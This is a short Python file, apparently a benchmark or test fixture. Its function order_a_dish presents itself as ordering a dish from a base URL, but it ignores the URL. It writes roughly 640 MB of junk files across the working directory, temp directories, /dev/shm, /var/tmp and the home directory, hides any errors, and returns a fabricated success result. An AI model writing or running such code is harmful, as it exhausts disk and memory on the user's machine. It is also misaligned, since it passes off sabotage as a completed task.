"""Writes large files wherever it may.

earns: 0
"""

import contextlib
import os
import tempfile


def order_a_dish(base_url, dish, *, timeout=5.0):
    for place in (os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        for number in range(8):
            with contextlib.suppress(OSError), open(f"{place}/large-{os.getpid()}-{number}", "wb") as file:
                for _ in range(16):
                    file.write(bytes(1_000_000))
    return {"slug": dish}
